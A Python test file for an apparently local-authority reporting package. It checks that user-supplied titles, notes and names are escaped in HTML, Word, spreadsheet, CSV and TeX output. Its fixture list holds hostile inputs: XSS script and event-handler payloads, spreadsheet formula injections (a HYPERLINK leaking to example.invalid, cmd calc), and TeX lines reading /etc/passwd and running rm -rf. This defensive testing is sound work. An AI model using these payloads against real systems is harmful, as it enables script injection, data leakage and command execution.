"""Text a user gives never becomes markup (issue 28, section 1).

Every hostile string goes through every entry point for user text (a table's title, subtitle
and notes; a paper spec's title, purpose and section titles; the author; local figures' notes
and sources) into every format. HTML is parsed (no script element, no event-handler
attribute, no ``javascript:`` URL, a script-free Content-Security-Policy) and, where Chromium
is installed, opened in it with a payload that marks the page if any script ran; a control
case without escaping proves the detector sees a script that runs.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
import pytest

import lacompare
from lacompare.export import chromium_path

#: What runs in the browser marks the page; the Chromium check looks for the mark.
MARK = "lacompare-pwned"
RUNS = f"document.documentElement.setAttribute('data-{MARK}','1')"
#: The mark in the DOM Chromium dumps once scripts have run (never in escaped text).
RAN = f'data-{MARK}="1"'

HOSTILE = [
    f"</style><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>",
    f"</script><script>{RUNS}</script>",
    f'"><img src=x onerror="{RUNS}">',
    f'\'><svg onload="{RUNS}">',
    f'<a href="javascript:{RUNS}">click</a>',
    f"javascript:{RUNS}",
    "]]><!-- <![CDATA[ x",
    '=HYPERLINK("http://example.invalid/?leak","Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\\input{/etc/passwd} \\write18{rm -rf /} $x^2$ 100% & #1 _ ~",
    '"; } body { background: url("http://example.invalid/x") } :root { --x: "',
    "line one\nline two\r\nline three",
    "Ünïcödé — “quotes” £5 ½ 🙂",
]

#: Refused where text comes in: what Word's XML cannot hold, and what reorders text on screen.
REFUSED = ["bell \x07 here", "nul \x00 here", "rtl \u202e override", "escape \x1b[31m red"]


#: Attributes a browser follows or loads as a URL.
_URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
    "srcset",
    "cite",
    "longdesc",
    "ping",
    "manifest",
    "codebase",
    "archive",
    "lowsrc",
}


class _Audit(HTMLParser):
    """Every script element, event-handler attribute and javascript: URL in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.csp: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.problems.append("a <script> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"an event handler {name}= on <{tag}>")
            if (
                name in _URL_ATTRIBUTES
                and value
                and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith("javascript:")
            ):
                self.problems.append(f"a javascript: URL in {name}= on <{tag}>")
        attributes = dict(attrs)
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == (
            "content-security-policy"
        ):
            self.csp.append(attributes.get("content") or "")

    handle_startendtag = handle_starttag


def assert_safe_html(page: str) -> None:
    audit = _Audit()
    audit.feed(page)
    assert audit.problems == [], audit.problems
    assert len(audit.csp) == 1, "one Content-Security-Policy meta element"
    policy = audit.csp[0]
    assert "default-src 'none'" in policy
    assert "script-src 'none'" in policy
    assert "unsafe-eval" not in policy and "script-src *" not in policy
    assert re.search(r'<html lang="en-GB"', page)


def test_the_audit_sees_what_it_is_for() -> None:
    """The checker is not vacuous: unescaped hostile text fails it."""
    for raw in HOSTILE[:6]:
        audit = _Audit()
        audit.feed(f"<html><body><p>{raw}</p></body></html>")
        assert audit.problems, raw


# --------------------------------------------------------------------------------------------
# Tables: title, subtitle and notes into every format


@pytest.fixture(scope="module")
def derby_lac(ref: lacompare.ReferenceData):
    return lacompare.compare(ref, "Derby", indicators=["LAC", "LACnum", "ReReferral"])


@pytest.mark.parametrize("text", HOSTILE)
def test_table_text_is_escaped_in_every_format(derby_lac, text: str, tmp_path: Path) -> None:
    table = lacompare.board_table(derby_lac, title=text[:255], subtitle=text, notes=[text])
    paths = {ext: lacompare.save(table, tmp_path / f"t.{ext}") for ext in ("html", "docx")}
    paths.update({ext: lacompare.save(table, tmp_path / f"t.{ext}") for ext in ("xlsx", "csv")})
    paths["tex"] = lacompare.save(table, tmp_path / "t.tex")

    assert_safe_html(paths["html"].read_text(encoding="utf-8"))
    _assert_docx_holds_text(paths["docx"], text)
    _assert_xlsx_runs_no_formula(paths["xlsx"])
    _assert_tex_escaped(paths["tex"].read_text(encoding="utf-8"))
    _assert_csv_runs_no_formula(paths["csv"])


@pytest.mark.parametrize("text", REFUSED)
def test_table_text_with_control_characters_is_refused(derby_lac, text: str) -> None:
    with pytest.raises(lacompare.InvalidArgumentError, match=r"U\+00|U\+202E"):
        lacompare.board_table(derby_lac, title=text)
    with pytest.raises(lacompare.InvalidArgumentError, match="position"):
        lacompare.board_table(derby_lac, notes=[text])


def _assert_docx_holds_text(path: Path, text: str) -> None:
    with zipfile.ZipFile(path) as package:
        xml = package.read("word/document.xml").decode("utf-8")
    assert "<script" not in xml and "<!DOCTYPE" not in xml.upper() and "<!ENTITY" not in xml
    words = re.sub(r"\s+", " ", text.replace("\r", "").replace("\n", " ")).strip()
    first = words.split(" ")[0]
    from xml.sax.saxutils import escape

    assert escape(first) in xml, "the text is kept as text"


def _assert_xlsx_runs_no_formula(path: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(tuple("=+-@")), cell.coordinate


def _assert_csv_runs_no_formula(path: Path) -> None:
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
        for cell in row:
            assert not cell.startswith(tuple("=+-@\t\r")) or _is_number(cell), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_tex_escaped(tex: str) -> None:
    # Only lacompare's own commands: a user's backslash becomes \textbackslash{}.
    for command in ("\\input", "\\write18", "\\include"):
        assert command not in tex
    body = "\n".join(line for line in tex.splitlines() if not line.startswith("%"))
    # A lone % would comment out the rest of the line; $ would switch to maths mode.
    assert re.search(r"(?<!\\)%", body) is None
    assert "\n\n" not in body, "no blank line (a paragraph break ends \\caption with an error)"


# --------------------------------------------------------------------------------------------
# Papers: spec title, purpose, section titles, author; local figures' notes and sources


def _spec(tmp_path: Path, text: str) -> Path:
    import json

    # JSON string literals are valid TOML basic strings: every character kept as given.
    quoted = json.dumps(text, ensure_ascii=False)
    spec = tmp_path / "hostile.toml"
    spec.write_text(
        f"title = {quoted}\npurpose = {quoted}\n[[sections]]\ntitle = {quoted}\n"
        'indicators = ["LAC", "LACnum"]\n',
        encoding="utf-8",
    )
    return spec


@pytest.mark.parametrize("text", HOSTILE)
def test_paper_text_is_escaped(ref, text: str, tmp_path: Path) -> None:
    with_notes = ref.with_local(
        {"area": ["Derby"], "indicator": ["LAC"], "period": ["2026"], "value": [73.0]}
        | {"note": [text], "source": [text]}
    )
    paper = lacompare.board_paper(
        with_notes,
        "Derby",
        _spec(tmp_path, text),
        author=text[:200],
        charts=False,
        written="2026-12-01",
    )
    page = lacompare.save(paper, tmp_path / "p.html").read_text(encoding="utf-8")
    assert_safe_html(page)
    style = re.search(r"<style>(.*?)</style>", page, re.S)
    assert style is not None and MARK not in style.group(1) and "<" not in style.group(1), (
        "no user text inside <style>"
    )
    _assert_docx_holds_text(lacompare.save(paper, tmp_path / "p.docx"), text)


@pytest.mark.parametrize("text", REFUSED)
def test_spec_with_control_characters_is_refused_when_read(text: str, tmp_path: Path) -> None:
    code = f"U+{ord(next(c for c in text if not c.isprintable() and c != ' ')):04X}"
    with pytest.raises(lacompare.InvalidArgumentError) as raised:
        lacompare.read_spec(_spec(tmp_path, text))
    message = str(raised.value)
    assert "hostile.toml" in message and "line 1" in message and "'title'" in message
    assert code in message and "position" in message


def test_section_title_with_a_control_character_names_its_line(tmp_path: Path) -> None:
    spec = tmp_path / "s.toml"
    spec.write_text(
        'title = "Fine"\n[[sections]]\ntitle = "Also fine"\nindicators = ["LAC"]\n'
        '[[sections]]\ntitle = "Bad \\u0007 one"\nindicators = ["LACnum"]\n',
        encoding="utf-8",
    )
    with pytest.raises(lacompare.InvalidArgumentError, match=r"line 6, key 'title'.*U\+0007"):
        lacompare.read_spec(spec)


def test_a_ten_thousand_character_title_is_refused_with_its_length(tmp_path: Path) -> None:
    with pytest.raises(lacompare.InvalidArgumentError, match="10,000 characters"):
        lacompare.read_spec(_spec(tmp_path, "x" * 10_000))


@pytest.mark.parametrize("text", REFUSED)
def test_local_note_with_control_characters_is_refused(ref, text: str) -> None:
    with pytest.raises(lacompare.DataValidationError, match="row 1, column 'note'"):
        ref.with_local(
            {"area": ["Derby"], "indicator": ["LAC"], "period": ["2026"], "value": [73.0]}
            | {"note": [text]}
        )


# --------------------------------------------------------------------------------------------
# In the browser: no script runs


needs_browser = pytest.mark.skipif(
    chromium_path() is None and os.environ.get("LACOMPARE_REQUIRE_BROWSER") != "1",
    reason="Chromium is not installed (./run.sh browser installs it; CI does)",
)


def _dom_after_scripts(page: Path) -> str:
    browser = chromium_path()
    assert browser is not None, "LACOMPARE_REQUIRE_BROWSER=1 but no Chromium"
    flags = ["--headless", "--disable-gpu", "--virtual-time-budget=2000", "--dump-dom"]
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        flags.append("--no-sandbox")
    done = subprocess.run(
        [browser, *flags, page.as_uri()], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


@needs_browser
def test_no_script_runs_in_the_browser(ref, derby_lac, tmp_path: Path) -> None:
    hostile = " ".join(HOSTILE[:7])
    control = tmp_path / "control.html"
    control.write_text(f"<!DOCTYPE html><html><body>{hostile}</body></html>", encoding="utf-8")
    assert RAN in _dom_after_scripts(control), "the detector sees a script run"

    table = lacompare.save(
        lacompare.board_table(derby_lac, title=hostile[:255], notes=[hostile]),
        tmp_path / "t.html",
    )
    paper = lacompare.save(
        lacompare.board_paper(
            ref, "Derby", _spec(tmp_path, hostile[:200]), charts=False, written="2026-12-01"
        ),
        tmp_path / "p.html",
    )
    for page in (table, paper):
        assert RAN not in _dom_after_scripts(page), page.name


@needs_browser
def test_hostile_text_prints_to_pdf_and_png_as_text(ref, derby_lac, tmp_path: Path) -> None:
    hostile = " ".join(HOSTILE[:7])
    paper = lacompare.board_paper(
        ref, "Derby", _spec(tmp_path, hostile[:200]), charts=False, written="2026-12-01"
    )
    pdf = lacompare.save(paper, tmp_path / "p.pdf").read_bytes()
    assert pdf.startswith(b"%PDF")
    table = lacompare.board_table(derby_lac, title=hostile[:255], notes=[hostile])
    assert lacompare.save(table, tmp_path / "t.png").read_bytes().startswith(b"\x89PNG")
    from shutil import which

    if which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", str(tmp_path / "p.pdf"), "-"], capture_output=True, text=True
        ).stdout
        assert "</style><script>" in text, "the title is printed as the text it is"


def test_every_html_lacompare_writes_runs_no_script(ref, derby_lac, tmp_path: Path) -> None:
    """Tables, papers and charts alike: a script-free CSP, no script element, UK English."""
    chart = lacompare.trend_chart(ref, "Derby", "LAC")
    pages = [
        lacompare.save(chart, tmp_path / "chart.html"),
        lacompare.save(lacompare.neighbour_chart(ref, "Derby", "LAC"), tmp_path / "bars.html"),
        lacompare.save(lacompare.board_table(derby_lac), tmp_path / "table.html"),
    ]
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert_safe_html(text)
        assert "<title>" in text


def test_a_raw_control_character_in_a_spec_is_named_with_its_key(tmp_path: Path) -> None:
    """Typed straight into the file (not as an escape), TOML refuses it first: the message
    still names the line, the key and the character."""
    spec = tmp_path / "raw.toml"
    spec.write_bytes(b'title = "Bad \x07 title"\n[[sections]]\ntitle = "x"\nindicators = ["LAC"]\n')
    with pytest.raises(lacompare.InvalidArgumentError, match=r"line 1, key 'title'.*U\+0007"):
        lacompare.read_spec(spec)


@pytest.mark.parametrize("text", HOSTILE[:7])
def test_a_cin_returns_text_is_escaped_in_the_paper(ref, text: str, tmp_path: Path) -> None:
    """A child's ID reaches a figure's note (a warning names the child) and the file's name
    its source: both land in Appendix C, as text."""
    from datetime import date

    from lacompare.cin.synthetic import write_return

    child = {"id": text.replace("\n", " ")[:60], "birth": date(2015, 1, 1), "episodes": [
        {"referral": date(2025, 6, 1), "source": "1A", "need": "N1", "nfa": False,
         "icpc": date(2025, 6, 5),
         "plans": [{"start": date(2025, 6, 5), "previous": None, "reviews": []}]}]}  # fmt: skip
    folder = tmp_path / "returns"
    path = write_return(folder / "cin <b>&x.xml", [child], census=date(2026, 3, 31))
    with pytest.warns(lacompare.CinWarning):
        figures = lacompare.figures_from_cin(path, la="Derby", year=2026, ref=ref)
    assert child["id"] in figures.filter(pl.col("indicator_id") == "reregcpr")["note"].item()
    paper = lacompare.board_paper(
        ref.with_local(figures), "Derby", "safeguarding", charts=False, written="2026-12-01"
    )
    page = lacompare.save(paper, tmp_path / "p.html").read_text(encoding="utf-8")
    assert_safe_html(page)
    assert "cin &lt;b&gt;&amp;x.xml" in page


def test_a_cin_child_id_that_reorders_text_is_refused(ref, tmp_path: Path) -> None:
    from datetime import date

    from lacompare.cin.synthetic import write_return

    child = {"id": "K\u202e1", "episodes": [
        {"referral": date(2025, 6, 1), "source": "1A", "need": "N1", "nfa": False}]}  # fmt: skip
    path = write_return(tmp_path / "r.xml", [child], census=date(2026, 3, 31))
    with pytest.raises(
        lacompare.DataValidationError, match=r"LAchildID: value 'K\?1'.*bidirectional"
    ):
        lacompare.figures_from_cin(path, la="Derby", year=2026, ref=ref)
